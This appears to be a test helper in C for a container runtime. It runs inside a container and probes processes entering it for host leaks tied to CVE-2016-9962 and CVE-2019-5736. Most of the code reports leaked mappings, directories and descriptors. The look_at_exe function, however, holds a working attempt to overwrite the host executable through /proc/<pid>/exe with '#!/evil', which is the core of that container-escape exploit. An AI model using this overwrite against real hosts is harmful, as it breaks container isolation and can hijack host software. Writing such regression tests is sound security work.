/* SPDX-License-Identifier: Apache-2.0 */
/* peek: runs in a container and tries to get hold of every process that appears beside it before that has become a program of the
 * container (CVE-2016-9962, CVE-2019-5736).  Whatever proves itself to be of the outside is written, one line each: a mapping or a program
 * that is not of this image, a root or working directory that is not ours, a descriptor of something else than a pipe or a device.  Ends
 * when /stop is there.  The program of this image is busybox.  */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

static unsigned long looked;

static int
ours (const char *name)
{
  return strstr (name, "busybox") != NULL || strstr (name, "peek") != NULL;
}

static void
say (const char *what, const char *detail)
{
  printf ("%s %s\n", what, detail);
  fflush (stdout);
}

static int
look_at_exe (const char *pid)
{
  char path[64], text[4096];
  ssize_t n;
  int fd;

  snprintf (path, sizeof path, "/proc/%s/exe", pid);
  n = readlink (path, text, sizeof text - 1);
  if (n < 0)
    return 0;
  text[n] = '\0';
  if (ours (text))
    return 0;
  say ("exe", text);
  /* once its own process is gone the program may be written, through the handle that was kept */
  fd = open (path, O_RDONLY);
  if (fd < 0)
    return 1;
  snprintf (path, sizeof path, "/proc/self/fd/%d", fd);
  for (int i = 0; i < 200; i++)
    {
      int w = open (path, O_WRONLY);

      if (w >= 0 && pwrite (w, "#!/evil\n", 8, 0) == 8)
        {
          say ("written", text);
          close (w);
          break;
        }
      if (w >= 0)
        close (w);
      usleep (500);
    }
  close (fd);
  return 1;
}

static void
look_at_maps (const char *pid)
{
  char path[64], line[4096];
  FILE *f;

  snprintf (path, sizeof path, "/proc/%s/maps", pid);
  f = fopen (path, "r");
  if (f == NULL)
    return;
  while (fgets (line, sizeof line, f))
    {
      char *name = strchr (line, '/');

      if (name && ! ours (name))
        {
          name[strcspn (name, "\n")] = '\0';
          say ("maps", name);
          break;
        }
    }
  fclose (f);
}

static void
look_at_dir (const char *pid, const char *which, const struct stat *root)
{
  char path[64];
  struct stat st;

  snprintf (path, sizeof path, "/proc/%s/%s/.", pid, which);
  if (stat (path, &st) == 0 && (st.st_dev != root->st_dev || st.st_ino != root->st_ino))
    say (which, "is not ours");
}

static void
look_at_fds (const char *pid)
{
  char path[64], text[4096];
  struct dirent *e;
  DIR *d;

  snprintf (path, sizeof path, "/proc/%s/fd", pid);
  d = opendir (path);
  if (d == NULL)
    return;
  while ((e = readdir (d)) != NULL)
    {
      ssize_t n = readlinkat (dirfd (d), e->d_name, text, sizeof text - 1);

      if (n <= 0)
        continue;
      text[n] = '\0';
      if (strncmp (text, "pipe:", 5) != 0 && strncmp (text, "/dev/", 5) != 0)
        say ("fd", text);
    }
  closedir (d);
}

static void
trace (const char *pid)
{
  char path[64], text[4096];
  int status;
  ssize_t n;
  pid_t p = (pid_t) atoi (pid);

  if (ptrace (PTRACE_SEIZE, p, 0, 0) < 0)
    return;
  if (ptrace (PTRACE_INTERRUPT, p, 0, 0) == 0 && waitpid (p, &status, __WALL) == p && WIFSTOPPED (status))
    {
      snprintf (path, sizeof path, "/proc/%s/exe", pid);
      n = readlink (path, text, sizeof text - 1);
      text[n > 0 ? n : 0] = '\0';
      if (n > 0 && ! ours (text))
        say ("traced", text);
    }
  ptrace (PTRACE_DETACH, p, 0, 0);
}

static void
look_at (const char *pid, const struct stat *root)
{
  looked++;
  for (int i = 0; i < 30; i++)
    {
      char path[64];

      look_at_maps (pid);
      look_at_fds (pid);
      look_at_dir (pid, "cwd", root);
      look_at_dir (pid, "root", root);
      if (look_at_exe (pid))
        break;
      if (looked % 4 == 0 && i == 0)
        trace (pid);
      snprintf (path, sizeof path, "/proc/%s", pid);
      if (access (path, F_OK) < 0)
        break;
    }
}

int
main (void)
{
  struct stat root;
  char me[16];

  signal (SIGCHLD, SIG_DFL);
  if (stat ("/", &root) < 0)
    return 1;
  snprintf (me, sizeof me, "%d", getpid ());
  say ("ready", "");
  while (access ("/stop", F_OK) < 0)
    {
      DIR *d = opendir ("/proc");
      struct dirent *e;

      while (d && (e = readdir (d)) != NULL)
        if (e->d_name[0] >= '1' && e->d_name[0] <= '9' && strcmp (e->d_name, me) != 0)
          look_at (e->d_name, &root);
      if (d)
        closedir (d);
    }
  printf ("looked %lu\n", looked);
  return 0;
}
